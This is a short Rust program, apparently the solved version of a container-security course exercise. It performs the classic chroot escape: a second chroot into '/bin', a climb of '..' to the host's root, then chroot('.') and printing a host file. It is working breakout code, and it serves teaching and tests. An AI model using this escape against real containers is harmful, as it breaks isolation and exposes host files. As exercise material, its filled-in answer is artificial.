//! `ch01-escape HOST_FILE`: the classic way out of a chroot, used by the tests and the demo.
//!
//! chroot(2) changes one thing, the directory that `/` means, and a process holding
//! CAP_SYS_CHROOT may call it again. Run inside a container, this program tries to walk out
//! to the host's root and prints HOST_FILE from there. It only reads. It is built statically
//! (`cargo xtask` does it) because the busybox rootfs has no C library.

use std::env;
use std::fs;
use std::io;
use std::os::unix::fs::{chroot, MetadataExt};
use std::path::Path;
use std::process::ExitCode;

fn main() -> ExitCode {
    let Some(host_file) = env::args_os().nth(1) else {
        eprintln!("usage: ch01-escape HOST_FILE");
        return ExitCode::from(2);
    };
    match escape_to_host_root().and_then(|()| fs::read_to_string(&host_file)) {
        Ok(text) => {
            print!("{text}");
            ExitCode::SUCCESS
        }
        Err(err) => {
            eprintln!("ch01-escape: still inside: {}: {err}", Path::new(&host_file).display());
            ExitCode::FAILURE
        }
    }
}

// ANCHOR: escape
/// Makes the host's root directory this process's root, if the container lets it.
fn escape_to_host_root() -> io::Result<()> {
    // EXERCISE 1.4: chroot into a subdirectory without entering it, climb `..` until `.` and `..` are the same directory, then chroot(".")
    // A second chroot into a subdirectory leaves the working directory outside the new root.
    chroot("/bin")?;
    // The kernel stops `..` only at the process's root, which now lies below us, so the
    // climb goes on to the top of the host's tree, where `..` is `.` itself.
    while !same_directory(".", "..")? {
        env::set_current_dir("..")?;
    }
    chroot(".")
    // END EXERCISE
}
// ANCHOR_END: escape

fn same_directory(a: &str, b: &str) -> io::Result<bool> {
    let (a, b) = (fs::metadata(a)?, fs::metadata(b)?);
    Ok(a.dev() == b.dev() && a.ino() == b.ino())
}
